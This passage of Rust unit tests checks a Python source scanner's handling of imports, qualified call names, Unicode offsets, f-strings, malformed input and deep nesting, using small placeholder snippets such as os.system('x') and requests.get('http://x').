        assert_eq!(module.resolve(&get.args[0].value, get.span.start), &Value::Other);
        let before = src.find("a = b").unwrap_or(0);
        let resolved = module.resolve(&get.args[0].value, before);
        assert_eq!(resolved.as_str().map(|s| s.as_str()), Some("http://b"));
        let u = &module.assignments[7];
        assert_eq!(module.resolve(&u.value, u.target_span.start), &Value::Other);
        assert_eq!(&src[module.assignments[2].value_span.clone()], "['sh', '-c']");
    }

    #[test]
    fn imports_qualify_callees() {
        let src = "import subprocess as sp, os.path\nfrom urllib.request import (urlopen,\n Request as R)\n\
                   from . import util\nsp.run('x'); urlopen(R('u')); os.path.join(); util.f()";
        let module = scan(src);
        let qualified: Vec<&str> = module.calls.iter().map(Call::qualified).collect();
        assert_eq!(
            qualified,
            ["subprocess.run", "urllib.request.urlopen", "urllib.request.Request", "os.path.join", ".util.f"]
        );
        assert_eq!(&src[module.imports[0].span.clone()], "sp");
    }

    #[test]
    fn unicode_offsets() {
        let src = "é = 'ü'; requests.get('http://ж/é')";
        let module = scan(src);
        let url = string(&call(&module, "requests.get").args[0].value);
        assert_eq!(url.as_str(), "http://ж/é");
        assert_eq!(&src[url.source_span()], "http://ж/é");
        assert_eq!(module.assignments[0].target, "é");
    }

    #[test]
    fn python_312_nested_quotes_in_f_strings() {
        let src = "print(f\"{\", \".join([\n  'a',  # c\n  'b'])}\" \"!\"); os.system('x')";
        let module = scan(src);
        let printed = string(&call(&module, "print").args[0].value);
        assert_eq!(printed.as_str(), "{…}!");
        assert_eq!(call(&module, "os.system").args.len(), 1);
    }

    #[test]
    fn malformed_input_does_not_panic() {
        let inputs = [
            "requests.get('http://x",
            "os.system(\"abc\\",
            "f'''{x",
            "f\"{x:{y\"",
            "f'{'",
            "x = '\\N{",
            "b'\\x4'",
            "'\\u12'",
            ")]}(([{",
            "requests.get(url, verify=False]\nos.system('a')",
            "\\",
            "r'\\",
            "a.(b)(c)",
            ".get()",
            "f\"{x!r}\"\"",
            "@\n$?`\0\u{1}",
            "import\nfrom\nfrom . import\nx =\nx :\nx +=",
            "a = b = c =",
            "def (",
            "'''\r",
            "\u{feff}print('bom')",
        ];
        for input in inputs {
            let module = scan(input);
            for s in &module.strings {
                let span = s.source_span();
                assert!(span.start <= span.end && span.end <= input.len(), "{input:?}");
            }
            for c in &module.calls {
                assert!(c.span.end <= input.len() && c.callee_span.end <= input.len());
            }
        }
        let module = scan("requests.get('http://x");
        assert_eq!(string(&module.calls[0].args[0].value).as_str(), "http://x");
        // Every prefix of a tricky source must be fine too.
        let tricky = "x = f'{a[\"b\"]:{w}}' r'\\'' b\"\\777\" # c\nos.system((('é'\\\n)))";
        for end in 0..=tricky.len() {
            if let Some(prefix) = tricky.get(..end) {
                let _ = scan(prefix);
            }
        }
    }

    #[test]
    fn deep_nesting_is_bounded() {
        let n = 10_000;
        let deep = format!("{}{}", "[".repeat(n), "]".repeat(n));
        let module = scan(&format!("f({deep})"));
        // Decoded down to MAX_NESTING levels, `Other` below.
        let mut value = &module.calls[0].args[0].value;
        let mut levels = 0;
        while let Value::List(items) = value {
            levels += 1;
            value = &items[0];
        }
        assert_eq!((levels, value), (MAX_NESTING + 1, &Value::Other));
        let shallow = format!("f({}'x'{})", "[".repeat(3), "]".repeat(3));
        let module = scan(&shallow);
        let wrapped = Value::List(vec![Value::List(vec![Value::List(vec![str_value("x")])])]);
        assert_eq!(texts_of_nested(&module.calls[0].args[0].value), texts_of_nested(&wrapped));
        let calls = format!("{}1{}", "f(".repeat(n), ")".repeat(n));
        assert_eq!(scan(&calls).calls.len(), n);
        let _ = scan(&"(".repeat(n));
        let _ = scan(&"f(".repeat(n));
        let _ = scan(&format!("f'{}'", "{x:".repeat(n)));
        let _ = scan(&"a.".repeat(n));
        let _ = scan(&"a().".repeat(n));
        let _ = scan(&format!("{}]", "(".repeat(n)));
    }

    /// Strings of a nested list, with their nesting, ignoring source maps.
    fn texts_of_nested(value: &Value) -> String {
        match value {
            Value::Str(s) => format!("{:?}", s.as_str()),
            Value::List(items) => {
                let inner: Vec<String> = items.iter().map(texts_of_nested).collect();
                format!("[{}]", inner.join(","))
            }
            other => format!("{other:?}"),
        }
    }
}
